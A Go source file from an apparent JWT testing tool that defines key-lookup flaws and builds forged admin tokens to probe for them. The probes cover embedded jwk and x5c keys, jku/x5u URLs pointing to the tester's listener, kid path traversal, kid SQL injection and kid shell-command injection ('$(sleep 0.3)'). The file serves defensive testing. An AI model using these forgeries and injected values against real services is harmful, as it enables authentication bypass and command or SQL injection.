package jwttest

import (
	"crypto/rand"
	"crypto/x509"
	"crypto/x509/pkix"
	"encoding/base64"
	"math/big"
	"time"

	"github.com/cda17858/jwt"
	"github.com/cda17858/jwt/jwk"
)

// Faults of how a key is found.
const (
	KeyJWK             ID = "key.jwk"
	KeyJKU             ID = "key.jku"
	KeyX5U             ID = "key.x5u"
	KeyX5C             ID = "key.x5c"
	KeyKidPath         ID = "key.kid-path"
	KeyKidSQL          ID = "key.kid-sql"
	KeyKidCommand      ID = "key.kid-command"
	KeyKidNotString    ID = "key.kid-not-string"
	KeyKidUnknown      ID = "key.kid-unknown"
	KeyKidFlood        ID = "key.kid-flood"
	KeyWithdrawn       ID = "key.withdrawn"
	KeyLowOrderEd25519 ID = "key.low-order-ed25519"
	KeyNoneInJWKS      ID = "key.none-in-jwks"
	KeySecretInJWKS    ID = "key.secret-in-jwks"
)

func keyFaults() []Fault {
	const inHeader = "draft-ietf-oauth-rfc8725bis section 3.10"
	return []Fault{
		{ID: KeyJWK, Text: "The header brings the key that has signed.", Severity: Forge,
			Reference: "RFC 7515 section 4.1.3", Advisory: "CVE-2018-0114", Advice: ownKeys, probes: embeddedJWK},
		{ID: KeyJKU, Text: "The header says at which URL the key set is, which is somebody else's.", Severity: Forge,
			Reference: inHeader, Advice: ownKeys, probes: linked("jku", "/jwks.json")},
		{ID: KeyX5U, Text: "The header says at which URL the certificate is, which is somebody else's.", Severity: Forge,
			Reference: inHeader, Advice: ownKeys, probes: linked("x5u", "/cert.pem")},
		{ID: KeyX5C, Text: "The header brings the certificate of the key that has signed, which nobody has vouched for.", Severity: Forge,
			Reference: "RFC 7515 section 4.1.6", Advice: ownKeys,
			probes: func(f *forge) ([]probe, error) {
				der, err := f.attacker.certificate()
				chain := "[" + quote(base64.StdEncoding.EncodeToString(der)) + "]"
				return one(f.forged(f.header.with("x5c", chain), f.admin())), err
			}},
		{ID: KeyKidPath, Text: "kid is the path of a file whose content everybody knows.", Severity: Forge,
			Reference: "RFC 8725 section 3.10", Advice: ownKeys,
			probes: func(f *forge) ([]probe, error) {
				h := f.header.with("kid", `"../../../../../../../dev/null"`)
				return []probe{{variant: "empty", token: mac(jwt.HS256, nil, h, f.admin())}, {variant: "one zero byte", token: mac(jwt.HS256, []byte{0}, h, f.admin())}}, nil
			}},
		{ID: KeyKidSQL, Text: "kid is a piece of SQL that selects a key of the attacker's.", Severity: Forge,
			Reference: "RFC 8725 section 3.10", Advice: ownKeys,
			probes: func(f *forge) (ps []probe, _ error) {
				for _, kid := range []string{"x' UNION SELECT 'jwttest';-- -", "x' UNION SELECT 'jwttest' FROM dual;-- -"} {
					ps = append(ps, probe{variant: kid, token: mac(jwt.HS256, []byte("jwttest"), f.header.with("kid", quote(kid)), f.admin())})
				}
				return ps, nil
			}},
		{ID: KeyKidCommand, Text: "kid is a path and a command of the shell.", Severity: Forge,
			Reference: "RFC 8725 section 3.10", Advice: ownKeys,
			probes: func(f *forge) (ps []probe, _ error) {
				for _, kid := range []string{"/dev/null; sleep 0.3", "/dev/null | sleep 0.3", "$(sleep 0.3)"} {
					ps = append(ps, probe{variant: kid, token: f.forged(f.header.with("kid", quote(kid)), f.admin())})
				}
				return ps, nil
			}},
		{ID: KeyKidNotString, Text: "kid is not a string.", Severity: Robust,
			Reference: "RFC 7515 section 4.1.4", Advice: understandHeader,
			probes: headers(func(h object) (vs variants) {
				for _, v := range []string{"5", "{}", "[" + h.get("kid") + "]", "true", "null"} {
					vs = append(vs, [2]string{v, h.with("kid", v).String()})
				}
				return vs
			})},
		{ID: KeyKidUnknown, Text: "kid is one that the issuer does not have, though its key has signed.", Severity: Replay, Signed: true,
			Reference: "RFC 7515 section 4.1.4", Advice: ownKeys, Implies: []ID{HTTPKeysDown},
			probes: headers(func(h object) variants { return variants{{"", h.with("kid", quote(rand.Text())).String()}} })},
		{ID: KeyKidFlood, Text: "Each of a hundred tokens has another unknown kid, and for each the service asks the issuer.", Severity: Robust, Signed: true,
			Reference: "RFC 8725 section 3.10", Advice: freshKeys, run: (*attack).kidFlood},
		{ID: KeyWithdrawn, Text: "The key that has signed is not in the issuer's set any more, which the service has fetched since.", Severity: Replay, Signed: true,
			Reference: "RFC 7517 section 5", Advisory: "CVE-2025-22149", Advice: freshKeys, run: (*attack).withdrawn},
		{ID: KeyLowOrderEd25519, Text: "The issuer's set has an Ed25519 key of small order, by which one signature is good for every text.", Severity: Forge, Signed: true,
			Reference: "RFC 8725 section 3.4", Advice: ownKeys,
			probes: func(f *forge) ([]probe, error) { return f.byTrap(lowOrderKey) }},
		{ID: KeyNoneInJWKS, Text: "The issuer's set has a key of alg none, and the token has neither.", Severity: Forge, Signed: true,
			Reference: "RFC 8725 section 3.2", Advice: ownKeys,
			probes: func(f *forge) ([]probe, error) { return f.byTrap(noneKey) }},
		{ID: KeySecretInJWKS, Text: "The issuer's set has a secret, which everybody can read, and an HMAC is made with it.", Severity: Forge, Signed: true,
			Reference: "RFC 7517 section 9.2", Advice: ownKeys,
			probes: func(f *forge) ([]probe, error) { return f.byTrap(publicSecret) }},
	}
}

func embeddedJWK(f *forge) (ps []probe, _ error) {
	if f.attacker.private == nil {
		return nil, absent("the token has an HMAC, and a secret is not embedded")
	}
	data, err := jwk.Marshal(f.attacker)
	if err != nil {
		return nil, err
	}
	h := f.header.with("jwk", string(data))
	return []probe{
		{variant: "kid of the issuer", token: f.forged(h, f.admin())},
		{variant: "kid of the key", token: f.forged(h.with("kid", quote(f.attacker.KeyID())), f.admin())},
		{variant: "no kid", token: f.forged(h.without("kid"), f.admin())},
	}, nil
}

// linked returns a func that makes tokens with the URL of the listener in a parameter.
func linked(name, path string) func(*forge) ([]probe, error) {
	return func(f *forge) ([]probe, error) {
		if f.attacker.private == nil {
			return nil, absent("the token has an HMAC, and secrets have no URL")
		}
		if f.listener == "" {
			return nil, absent("a service elsewhere cannot reach a listener of ours")
		}
		h := f.header.with(name, quote(f.listener+path))
		return []probe{
			{variant: "kid of the issuer", token: f.forged(h, f.admin())},
			{variant: "kid of the key", token: f.forged(h.with("kid", quote(f.attacker.KeyID())), f.admin())},
		}, nil
	}
}

// certificate returns a self-signed certificate of k, in DER.
func (k *key) certificate() ([]byte, error) {
	if k.private == nil {
		return nil, absent("the token has an HMAC, and secrets have no certificate")
	}
	template := &x509.Certificate{
		SerialNumber: big.NewInt(1), Subject: pkix.Name{CommonName: "jwttest"},
		NotBefore: time.Now().Add(-time.Hour), NotAfter: time.Now().Add(24 * time.Hour),
	}
	return x509.CreateCertificate(rand.Reader, template, template, k.PublicKey(), k.private)
}
